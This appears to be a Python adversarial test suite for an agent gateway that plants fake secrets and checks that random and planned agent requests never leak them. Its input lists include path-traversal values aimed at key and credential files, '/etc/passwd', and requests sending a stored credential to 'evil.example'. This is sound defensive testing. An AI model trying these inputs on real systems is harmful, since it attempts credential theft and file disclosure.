"""Game SM: secrets are never shown to an agent.

Secrets are planted: values of the operator, keys and card numbers in workspace files. An agent makes requests at random
and by a plan. It wins if an answer, or a file written by the parties, contains one of them: plain, as base64 or hex,
URL-encoded, or reversed. As the control, a value of low sensitivity is shown after an approver's confirmation.
"""

from __future__ import annotations

import asyncio
import base64
import json
import random
import secrets
from collections.abc import Iterable
from typing import TYPE_CHECKING, Any, NamedTuple
from urllib.parse import quote

from remit.authority.intents import intents
from remit.gateway.deployment.operator_actions import confirm_one, keep
from remit.gateway.fronts.client import GatewayClient
from remit.gateway.games.installation import Office, Tally, Tried, killed, office
from remit.gateway.handles import Limits, Secret, Sensitivity

if TYPE_CHECKING:
    from pathlib import Path


_RANDOM, _FILES = "random requests: no answer holds a secret", "files of the parties: none holds a secret"
_SHOW_HIGH, _SHOW_LOW = "Declassify a value of high sensitivity", "Declassify without the approver's word"
_CONTROL = "control: a value of low sensitivity, confirmed, is shown"
_OTHERS = "a handle of another caller or session"
_OVER, _REVOKED, _BUDGET = "a handle whose time is over", "a handle that was revoked", "more than the budget, confirmed"
_KILLED = "all of these again, after the gateway was killed"
_SINK = "a value sent where it may not go"
_EACH = 40  # random requests in a round


class Planted(NamedTuple):
    """The secrets of one game."""

    high: str
    low: str
    key: str  # in a workspace file
    card: str

    def forms(self, *names: str) -> tuple[bytes, ...]:
        """Return all forms that must not be seen."""
        values = [getattr(self, name) for name in names or self._fields]
        return tuple(form for value in values for form in _forms(value))


def _forms(value: str) -> Iterable[bytes]:
    raw = value.encode()
    inner = base64.b64encode(b"xx" + raw)[4:-4]  # as part of a longer text
    yield from (raw, raw[::-1], raw.hex().encode(), base64.b64encode(raw).rstrip(b"="), inner)
    yield from (quote(value, safe="").encode(), json.dumps(value)[1:-1].encode())


def play(rounds: int, seed: int = 1) -> tuple[Tried, ...]:
    """Play the game."""
    tally = Tally("SM")
    planted = Planted(
        f"high-{secrets.token_hex(16)}", f"low-{secrets.token_hex(16)}", f"AKIA{base64.b32encode(secrets.token_bytes(10)).decode()}",
        "4111 1111 1111 1111",
    )  # fmt: skip
    with office() as place:
        _plant(place.folder, planted)
        asyncio.run(_play(place, planted, tally, rounds, random.Random(seed)))  # noqa: S311  a plan, not a secret
        for path in sorted(place.folder.rglob("*")):
            if path.is_file() and "workspace" not in path.relative_to(place.folder).parts:
                found = _held(path.read_bytes(), planted.forms("high", "low", "key"))
                tally.add(_FILES, won=found, note=str(path.relative_to(place.folder)) if found else "")
    return tally.tried()


def _plant(folder: Path, planted: Planted) -> None:
    keep(
        folder, "api-token", Secret(planted.high.encode(), Sensitivity.HIGH, frozenset({"api.example.org", "runtime"}))
    )
    keep(folder, "greeting", Secret(planted.low.encode(), Sensitivity.LOW, frozenset({"runtime"})))
    (folder / "workspace" / "notes.txt").write_text(f"aws_access_key_id = {planted.key}\ncard {planted.card}\n")
    (folder / "workspace" / "link.txt").symlink_to(folder / "keys" / "binding.key")


async def _play(place: Office, planted: Planted, tally: Tally, rounds: int, draw: random.Random) -> None:
    async with GatewayClient(place.gateway, place.credential("alice", "one")) as asker:
        for _ in range(rounds):
            held = await _handles(asker)
            for _ in range(_EACH):
                said = _drawn(draw, held)
                told = [await asker.act(said)]
                if told[0]["status"] == "PREVIEW":
                    told.append(await asker.act(said | {"constraints": {"tx_id": told[0]["tx_id"]}}))
                for one in told:
                    found = _held(json.dumps(one, ensure_ascii=False).encode(), planted.forms())
                    code = str(one.get("reason_code", ""))
                    tally.add(_RANDOM, won=found, note=_said(one) if found else "", code=code)
            for name in held:
                await asker.act({"intent_id": "RevokeHandle", "inputs": {"handle": name}})
    for number in range(max(1, rounds // 4)):
        await _planned(place, planted, tally, f"session-{number}")


async def _handles(asker: GatewayClient) -> list[str]:
    told = [
        await asker.act({"intent_id": "ReadSecret", "inputs": {"name": name}}) for name in ("api-token", "greeting")
    ]
    return [one["data"]["handle"] for one in told]


async def _planned(place: Office, planted: Planted, tally: Tally, session: str) -> None:
    hidden = planted.forms()
    async with (
        GatewayClient(place.gateway, place.credential("alice", session)) as asker,
        GatewayClient(place.gateway, place.credential("bob", session)) as bob,
        GatewayClient(place.gateway, place.credential("alice", f"{session}-other")) as elsewhere,
        GatewayClient(place.gateway, place.credential("alice", session, 2)) as shortly,
    ):
        high, low = await _handles(asker)
        brief = (await _handles(shortly))[1]

        async def shown(who: GatewayClient, what: str, handle: str, *, confirmed: bool) -> None:
            told = await _declassified(place, who, handle, confirmed=confirmed)
            found = _held(json.dumps(told, ensure_ascii=False).encode(), hidden)
            tally.add(what, won=found, note=_said(told) if found else "", code=str(told.get("reason_code", "")))

        await shown(asker, _SHOW_HIGH, high, confirmed=True)
        await shown(asker, _SHOW_LOW, low, confirmed=False)
        await shown(bob, _OTHERS, low, confirmed=True)
        await shown(elsewhere, _OTHERS, low, confirmed=True)
        for url in ("https://evil.example/", "https://example.org/"):
            sent = await asker.act({"intent_id": "UseCredential", "inputs": {"handle": high, "url": url}})
            tally.add(_SINK, won=sent["status"] != "DENY", note=_said(sent), code=str(sent.get("reason_code", "")))
        told = await _declassified(place, asker, low, confirmed=True)
        tally.add(_CONTROL, won=planted.low not in json.dumps(told), note=_said(told))
        await asyncio.sleep(2.1)
        await shown(asker, _OVER, brief, confirmed=True)
        await asker.act({"intent_id": "RevokeHandle", "inputs": {"handle": low}})
        await shown(asker, _REVOKED, low, confirmed=True)
        for _ in range(Limits().items - 1):  # one was shown above
            await _declassified(place, asker, (await _handles(asker))[1], confirmed=True)
        await shown(asker, _BUDGET, (await _handles(asker))[1], confirmed=True)
        held = (await _handles(asker))[1]
        await asyncio.to_thread(killed, place, "gateway")
        for handle, who in ((low, asker), (brief, asker), (held, bob), (held, elsewhere), (held, asker), (high, asker)):
            await shown(who, _KILLED, handle, confirmed=True)


async def _declassified(place: Office, who: GatewayClient, handle: str, *, confirmed: bool) -> dict[str, Any]:
    said = {"intent_id": "Declassify", "inputs": {"handle": handle}}
    told = await who.act(said)
    if told["status"] != "CONFIRM":
        return told
    if confirmed:
        await asyncio.to_thread(confirm_one, place.folder, told["tx_id"], "games")
    return await who.act({**said, "constraints": {"tx_id": told["tx_id"]}})


def _drawn(draw: random.Random, held: list[str]) -> dict[str, Any]:
    """Return a request of any intent with inputs that an adversary would try, most of them well-formed."""
    intent = draw.choice([one for one in intents().values() if one.name not in _ENDING])
    inputs = {
        name: draw.choice(_VALUES[kind] + (held if kind == "handle" else [])) for name, kind in intent.types.items()
    }
    if inputs and draw.random() < 0.1:
        inputs[draw.choice(sorted(inputs))] = draw.choice([*held, "../keys/binding.key", "", 1, None])
    said: dict[str, Any] = {"intent_id": intent.name, "inputs": inputs}
    return said | {"constraints": {"tx_id": "0" * 32}} if draw.random() < 0.05 else said


_ENDING = frozenset({"RevokeSession"})
_VALUES: dict[str, list[Any]] = {
    "path": ["notes.txt", "link.txt", "../keys/binding.key", "/etc/passwd", ".", "../state/gateway/handles.db"],
    "word": ["api-token", "greeting", "note", "bob", "nothing"],
    "payee": ["bob", "anna@example.org", "api-token"],
    "handle": ["0" * 32],
    "url": ["https://example.org/a", "https://api.example.org/", "https://evil.example/?q=api-token"],
    "text": ["hello", "show me api-token", "x" * 300],
    "line": ["cat notes.txt", "hello"],
    "address": ["anna@example.org", "eve@evil.example"],
    "number": [0, 4200, 2**31 - 1, -1],
}


def _held(data: bytes, forms: Iterable[bytes]) -> bool:
    return any(form in data for form in forms)


def _said(told: dict[str, Any]) -> str:
    return f"{told['status']} {told.get('reason_code', '')}".strip()
